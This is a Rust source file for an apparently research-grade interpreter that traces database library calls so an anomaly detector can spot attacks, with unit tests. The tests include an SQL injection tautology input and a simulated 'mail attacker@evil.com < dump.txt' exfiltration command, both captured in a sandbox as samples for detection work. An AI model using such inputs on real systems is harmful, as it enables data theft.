//! The program runtime: a tree-walking interpreter that executes application
//! programs against the database client layer, reporting every library call
//! to a [`CallSink`].
//!
//! This is the dynamic half of the substrate replacing Dyninst-instrumented
//! native execution: the program *really runs*, queries *really execute*,
//! and the emitted call sequence depends on the data — one extra matching
//! row produces one extra `mysql_fetch_row`/`printf` pair, exactly the
//! behavioural signal AD-PROM monitors.
//!
//! Observation names come from the `site_labels` map produced by the static
//! Analyzer — this is the "dynamic instrumentation" of §IV-D: labeled
//! output sites report `printf_Q<bid>` instead of `printf`.
//!
//! The tree-walk is the *reference semantics* of the language. The bytecode
//! VM in [`crate::vm`] is the production path; both delegate every library
//! call to the shared `host` layer, and the differential suite in
//! `tests/vm_equivalence.rs` pins their traces bit-identical.

use crate::collector::{CallEvent, CallSink};
use crate::host::{binary_op, index_value, unary_op, Host};
use crate::value::RtValue;
use adprom_client::ClientSession;
use adprom_lang::{BinOp, CallSiteId, Callee, Expr, Function, OutParam, Program, Stmt};
use std::collections::HashMap;
use std::fmt;

/// Which runtime executes programs (see [`crate::vm::execute_program`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ExecMode {
    /// The reference tree-walking interpreter.
    TreeWalk,
    /// The bytecode VM — compile once, dispatch a flat instruction stream.
    #[default]
    Vm,
}

/// Interpreter configuration.
#[derive(Debug, Clone)]
pub struct ExecConfig {
    /// Evaluation-step budget; exceeded ⇒ [`RuntimeError::StepLimit`].
    pub step_limit: u64,
    /// Seed for `rand()`.
    pub rng_seed: u64,
    /// Attach extension payloads (query signatures, file paths, system
    /// commands) to the matching call events — the §VII mitigations. Off by
    /// default: the baseline collector records names and callers only.
    pub extended_events: bool,
    /// Which runtime [`crate::vm::execute_program`] dispatches to.
    pub mode: ExecMode,
}

impl Default for ExecConfig {
    fn default() -> ExecConfig {
        ExecConfig {
            step_limit: 5_000_000,
            rng_seed: 0xAD50,
            extended_events: false,
            mode: ExecMode::default(),
        }
    }
}

/// What the program produced.
#[derive(Debug, Clone, Default)]
pub struct ExecOutcome {
    /// Everything written to stdout.
    pub stdout: String,
    /// Virtual filesystem contents (path → content).
    pub files: HashMap<String, String>,
    /// Commands passed to `system()`.
    pub system_commands: Vec<String>,
    /// Evaluation steps consumed. The only field that legitimately differs
    /// between execution modes: the tree-walk counts AST nodes, the VM
    /// counts instructions.
    pub steps: u64,
    /// True if the program called `exit()`.
    pub exited: bool,
}

/// Runtime errors.
#[derive(Debug, Clone, PartialEq)]
pub enum RuntimeError {
    /// Call to a function that does not exist.
    UndefinedFunction(String),
    /// The step budget was exhausted (runaway loop).
    StepLimit,
    /// The program has no `main`.
    NoMain,
    /// The program failed to compile to bytecode (VM mode only).
    Compile(String),
    /// User-call nesting exceeded the VM's frame budget (VM mode only; the
    /// tree-walk's equivalent limit is the native stack).
    CallDepth,
}

impl fmt::Display for RuntimeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RuntimeError::UndefinedFunction(name) => write!(f, "undefined function `{name}`"),
            RuntimeError::StepLimit => write!(f, "step limit exceeded"),
            RuntimeError::NoMain => write!(f, "program has no main"),
            RuntimeError::Compile(msg) => write!(f, "bytecode compilation failed: {msg}"),
            RuntimeError::CallDepth => write!(f, "call depth exceeded"),
        }
    }
}

impl std::error::Error for RuntimeError {}

enum Flow {
    Normal,
    Break,
    Continue,
    Return(RtValue),
    Exit,
}

/// Runs a program to completion on the tree-walking interpreter.
///
/// * `session` — the database connection the program talks to;
/// * `inputs` — the stdin lines consumed by `scanf`/`gets`/`fgets` (a test
///   case is exactly such an input vector);
/// * `site_labels` — observation names per call site (from the Analyzer);
///   pass an empty map to trace raw names;
/// * `sink` — where call events go.
///
/// This entry point always tree-walks, whatever `config.mode` says — it *is*
/// the reference. Use [`crate::vm::execute_program`] for mode dispatch.
pub fn run_program(
    prog: &Program,
    session: &mut ClientSession,
    inputs: &[String],
    site_labels: &HashMap<CallSiteId, String>,
    sink: &mut dyn CallSink,
    config: &ExecConfig,
) -> Result<ExecOutcome, RuntimeError> {
    let main = prog.entry().ok_or(RuntimeError::NoMain)?;
    let mut interp = Interp {
        prog,
        sink,
        labels: site_labels,
        step_limit: config.step_limit,
        host: Host::new(session, inputs, config),
    };
    let mut frame = HashMap::new();
    if let Flow::Exit = interp.run_function(main, &mut frame)? {
        interp.host.outcome.exited = true;
    }
    Ok(interp.host.outcome)
}

struct Interp<'a> {
    prog: &'a Program,
    sink: &'a mut dyn CallSink,
    labels: &'a HashMap<CallSiteId, String>,
    step_limit: u64,
    host: Host<'a>,
}

type Frame = HashMap<String, RtValue>;

enum Evaled {
    Value(RtValue),
    Exit,
}

/// Evaluates an expression to a value, early-returning on `exit()`.
macro_rules! eval_value {
    ($self:ident, $e:expr, $caller:expr, $frame:expr) => {
        match $self.eval($e, $caller, $frame)? {
            Evaled::Value(v) => v,
            Evaled::Exit => return Ok(Evaled::Exit),
        }
    };
}

impl Interp<'_> {
    fn tick(&mut self) -> Result<(), RuntimeError> {
        self.host.outcome.steps += 1;
        if self.host.outcome.steps > self.step_limit {
            return Err(RuntimeError::StepLimit);
        }
        Ok(())
    }

    fn run_function(&mut self, func: &Function, frame: &mut Frame) -> Result<Flow, RuntimeError> {
        for stmt in &func.body {
            match self.run_stmt(stmt, &func.name, frame)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    fn run_block(
        &mut self,
        stmts: &[Stmt],
        caller: &str,
        frame: &mut Frame,
    ) -> Result<Flow, RuntimeError> {
        for stmt in stmts {
            match self.run_stmt(stmt, caller, frame)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    fn run_stmt(
        &mut self,
        stmt: &Stmt,
        caller: &str,
        frame: &mut Frame,
    ) -> Result<Flow, RuntimeError> {
        self.tick()?;
        match stmt {
            Stmt::Let(name, e) | Stmt::Assign(name, e) => {
                let v = match self.eval(e, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                frame.insert(name.clone(), v);
                Ok(Flow::Normal)
            }
            Stmt::Expr(e) => match self.eval(e, caller, frame)? {
                Evaled::Value(_) => Ok(Flow::Normal),
                Evaled::Exit => Ok(Flow::Exit),
            },
            Stmt::If {
                cond,
                then_branch,
                else_branch,
            } => {
                let c = match self.eval(cond, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                if c.truthy() {
                    self.run_block(then_branch, caller, frame)
                } else {
                    self.run_block(else_branch, caller, frame)
                }
            }
            Stmt::While { cond, body } => loop {
                let c = match self.eval(cond, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                if !c.truthy() {
                    return Ok(Flow::Normal);
                }
                match self.run_block(body, caller, frame)? {
                    Flow::Normal | Flow::Continue => {}
                    Flow::Break => return Ok(Flow::Normal),
                    other => return Ok(other),
                }
                self.tick()?;
            },
            Stmt::For {
                init,
                cond,
                step,
                body,
            } => {
                match self.run_stmt(init, caller, frame)? {
                    Flow::Normal => {}
                    other => return Ok(other),
                }
                loop {
                    let c = match self.eval(cond, caller, frame)? {
                        Evaled::Value(v) => v,
                        Evaled::Exit => return Ok(Flow::Exit),
                    };
                    if !c.truthy() {
                        return Ok(Flow::Normal);
                    }
                    match self.run_block(body, caller, frame)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => return Ok(Flow::Normal),
                        other => return Ok(other),
                    }
                    match self.run_stmt(step, caller, frame)? {
                        Flow::Normal => {}
                        other => return Ok(other),
                    }
                    self.tick()?;
                }
            }
            Stmt::Return(e) => {
                let v = match e {
                    None => RtValue::Null,
                    Some(e) => match self.eval(e, caller, frame)? {
                        Evaled::Value(v) => v,
                        Evaled::Exit => return Ok(Flow::Exit),
                    },
                };
                Ok(Flow::Return(v))
            }
            Stmt::Break => Ok(Flow::Break),
            Stmt::Continue => Ok(Flow::Continue),
        }
    }

    fn eval(&mut self, e: &Expr, caller: &str, frame: &mut Frame) -> Result<Evaled, RuntimeError> {
        self.tick()?;
        let v = match e {
            Expr::Int(v) => RtValue::Int(*v),
            Expr::Float(v) => RtValue::Float(*v),
            Expr::Str(s) => RtValue::Str(s.as_str().into()),
            Expr::Bool(b) => RtValue::Bool(*b),
            Expr::Null => RtValue::Null,
            // Uninitialized variables read as NULL (C uninitialized-global
            // semantics) — attack-mutated programs may reference variables
            // declared on other paths, and the run must not abort.
            Expr::Var(name) => frame.get(name).cloned().unwrap_or(RtValue::Null),
            Expr::Unary(op, a) => {
                let va = eval_value!(self, a, caller, frame);
                unary_op(*op, va)
            }
            Expr::Binary(op, a, b) => {
                // Short-circuit logicals.
                if *op == BinOp::And {
                    let va = eval_value!(self, a, caller, frame);
                    if !va.truthy() {
                        return Ok(Evaled::Value(RtValue::Bool(false)));
                    }
                    let vb = eval_value!(self, b, caller, frame);
                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
                }
                if *op == BinOp::Or {
                    let va = eval_value!(self, a, caller, frame);
                    if va.truthy() {
                        return Ok(Evaled::Value(RtValue::Bool(true)));
                    }
                    let vb = eval_value!(self, b, caller, frame);
                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
                }
                let va = eval_value!(self, a, caller, frame);
                let vb = eval_value!(self, b, caller, frame);
                binary_op(*op, va, vb)
            }
            Expr::Index(a, idx) => {
                let va = eval_value!(self, a, caller, frame);
                let vi = eval_value!(self, idx, caller, frame);
                index_value(va, vi)
            }
            Expr::Call {
                site, callee, args, ..
            } => {
                // Evaluate arguments first (their nested calls are emitted
                // before this one, matching the trace order of native code).
                let mut arg_values = Vec::with_capacity(args.len());
                for a in args {
                    arg_values.push(eval_value!(self, a, caller, frame));
                }
                match callee {
                    Callee::User(name) => {
                        let func = self
                            .prog
                            .function(name)
                            .ok_or_else(|| RuntimeError::UndefinedFunction(name.clone()))?
                            .clone();
                        let mut callee_frame: Frame = HashMap::new();
                        for (p, v) in func.params.iter().zip(arg_values) {
                            callee_frame.insert(p.clone(), v);
                        }
                        match self.run_function(&func, &mut callee_frame)? {
                            Flow::Return(v) => v,
                            Flow::Exit => return Ok(Evaled::Exit),
                            _ => RtValue::Null,
                        }
                    }
                    Callee::Library(lc) => {
                        let name: std::sync::Arc<str> = self
                            .labels
                            .get(site)
                            .map(|l| l.as_str().into())
                            .unwrap_or_else(|| lc.name().into());
                        let detail = self.host.detail(*lc, &arg_values);
                        self.sink.on_call(CallEvent {
                            name,
                            call: *lc,
                            caller: caller.into(),
                            site: *site,
                            detail,
                        });
                        match self.host.lib_call(*lc, &arg_values) {
                            Some(v) => {
                                // Out-parameter emulation (`strcpy(dst, ..)`,
                                // `scanf("%s", v)`): when the target argument
                                // is a plain variable, the call's value is
                                // also stored into it.
                                let target = match lc.out_param() {
                                    Some(OutParam::FirstArg) => args.first(),
                                    Some(OutParam::LastArg) => args.last(),
                                    None => None,
                                };
                                if let Some(Expr::Var(var)) = target {
                                    frame.insert(var.clone(), v.clone());
                                }
                                v
                            }
                            None => return Ok(Evaled::Exit),
                        }
                    }
                }
            }
        };
        Ok(Evaled::Value(v))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collector::TraceCollector;
    use adprom_db::Database;
    use adprom_lang::parse_program;

    fn session_with_items() -> ClientSession {
        let mut db = Database::new("shop");
        db.execute("CREATE TABLE items (ID INT, name TEXT)")
            .unwrap();
        db.execute(
            "INSERT INTO items VALUES (10, 'apple'), (11, 'pear'), (12, 'plum'), (13, 'fig')",
        )
        .unwrap();
        ClientSession::connect(db)
    }

    fn run(src: &str, inputs: &[&str]) -> (Vec<String>, ExecOutcome) {
        let prog = parse_program(src).unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let inputs: Vec<String> = inputs.iter().map(|s| s.to_string()).collect();
        let outcome = run_program(
            &prog,
            &mut session,
            &inputs,
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        (collector.names(), outcome)
    }

    #[test]
    fn fig1_original_selectivity_one() {
        // Fig. 1 original code: WHERE ID = 10 retrieves one row →
        // PQexec, PQntuples, PQgetvalue, printf.
        let (names, _) = run(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID = 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names, vec!["PQexec", "PQntuples", "PQgetvalue", "printf"]);
    }

    #[test]
    fn fig1_modified_selectivity_many() {
        // Fig. 1 attack: WHERE ID >= 10 retrieves 4 rows → the
        // (PQgetvalue, printf) pair repeats once per row.
        let (names, _) = run(
            r#"
            fn main() {
                let query = "SELECT * FROM items WHERE ID >= 10";
                let result = PQexec(conn, query);
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
            &[],
        );
        assert_eq!(names.len(), 2 + 2 * 4);
        assert_eq!(
            names[2..6],
            ["PQgetvalue", "printf", "PQgetvalue", "printf"]
        );
    }

    #[test]
    fn fig2_injection_changes_call_sequence() {
        // Fig. 2 vulnerable banking snippet: normal input vs tautology.
        let src = r#"
            fn main() {
                let accNo = scanf();
                let query = "";
                let ts = "SELECT * FROM items where ID='";
                let tr = "'";
                strcpy(query, ts);
                strcat(query, accNo);
                strcat(query, tr);
                mysql_query(conn, query);
                let result = mysql_store_result(conn);
                let row = mysql_fetch_row(result);
                while (row != null) {
                    printf("%s ", row[0]);
                    row = mysql_fetch_row(result);
                }
            }
        "#;
        let (normal, _) = run(src, &["10"]);
        let (attacked, _) = run(src, &["1' OR '1'='1"]);
        // Normal: one row → fetch, print, fetch(None).
        let fetches = |v: &[String]| v.iter().filter(|n| *n == "mysql_fetch_row").count();
        let prints = |v: &[String]| v.iter().filter(|n| *n == "printf").count();
        assert_eq!(prints(&normal), 1);
        assert_eq!(fetches(&normal), 2);
        // Injection: all 4 rows → 4 prints, 5 fetches.
        assert_eq!(prints(&attacked), 4);
        assert_eq!(fetches(&attacked), 5);
    }

    #[test]
    fn caller_is_recorded() {
        let prog = parse_program("fn main() { helper(); }\nfn helper() { puts(\"x\"); }").unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &[],
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        assert_eq!(&*collector.events()[0].caller, "helper");
    }

    #[test]
    fn labels_are_applied_dynamically() {
        let prog = parse_program("fn main() { let x = \"v\"; printf(\"%s\", x); }").unwrap();
        let mut labels = HashMap::new();
        prog.for_each_call(|site, callee, _| {
            if callee.name() == "printf" {
                labels.insert(site, "printf_Q9".to_string());
            }
        });
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &[],
            &labels,
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        assert_eq!(collector.names(), vec!["printf_Q9"]);
    }

    #[test]
    fn step_limit_stops_infinite_loop() {
        let prog = parse_program("fn main() { while (1) { let x = 1; } }").unwrap();
        let mut session = session_with_items();
        let mut collector = TraceCollector::new();
        let err = run_program(
            &prog,
            &mut session,
            &[],
            &HashMap::new(),
            &mut collector,
            &ExecConfig {
                step_limit: 10_000,
                ..ExecConfig::default()
            },
        )
        .unwrap_err();
        assert_eq!(err, RuntimeError::StepLimit);
    }

    #[test]
    fn exit_terminates_program() {
        let (names, outcome) = run(
            "fn main() { puts(\"before\"); exit(0); puts(\"after\"); }",
            &[],
        );
        assert_eq!(names, vec!["puts", "exit"]);
        assert!(outcome.exited || outcome.stdout.contains("before"));
        assert!(!outcome.stdout.contains("after"));
    }

    #[test]
    fn file_writes_land_in_virtual_fs() {
        let (_, outcome) = run(
            r#"
            fn main() {
                let f = fopen("out.txt", "w");
                fprintf(f, "value=%d", 42);
                fputs("!", f);
                fclose(f);
            }
            "#,
            &[],
        );
        assert_eq!(outcome.files.get("out.txt").unwrap(), "value=42!");
    }

    #[test]
    fn system_commands_are_captured() {
        let (_, outcome) = run(
            "fn main() { system(\"mail attacker@evil.com < dump.txt\"); }",
            &[],
        );
        assert_eq!(outcome.system_commands.len(), 1);
    }

    #[test]
    fn user_function_return_value() {
        let (_, outcome) = run(
            r#"
            fn main() { printf("%d", double(21)); }
            fn double(x) { return x * 2; }
            "#,
            &[],
        );
        assert_eq!(outcome.stdout, "42");
    }

    #[test]
    fn missing_table_degrades_gracefully() {
        // A mutated program may query a table that does not exist; the run
        // must produce an empty result set, not abort.
        let (names, outcome) = run(
            r#"
            fn main() {
                let r = PQexec(conn, "SELECT * FROM no_such_table");
                let n = PQntuples(r);
                printf("%d rows
", n);
                printf("%s", PQgetvalue(r, 0, 0));
                mysql_query(conn, "SELECT * FROM also_missing");
                let m = mysql_store_result(conn);
                let row = mysql_fetch_row(m);
                if (row == null) { puts("empty"); }
            }
            "#,
            &[],
        );
        assert!(outcome.stdout.contains("0 rows"));
        assert!(outcome.stdout.contains("empty"));
        assert_eq!(names.iter().filter(|n| *n == "printf").count(), 2);
    }

    #[test]
    fn scanf_consumes_inputs_in_order() {
        let (_, outcome) = run(
            r#"
            fn main() {
                let a = scanf();
                let b = scanf();
                printf("%s-%s", a, b);
            }
            "#,
            &["first", "second"],
        );
        assert_eq!(outcome.stdout, "first-second");
    }
}
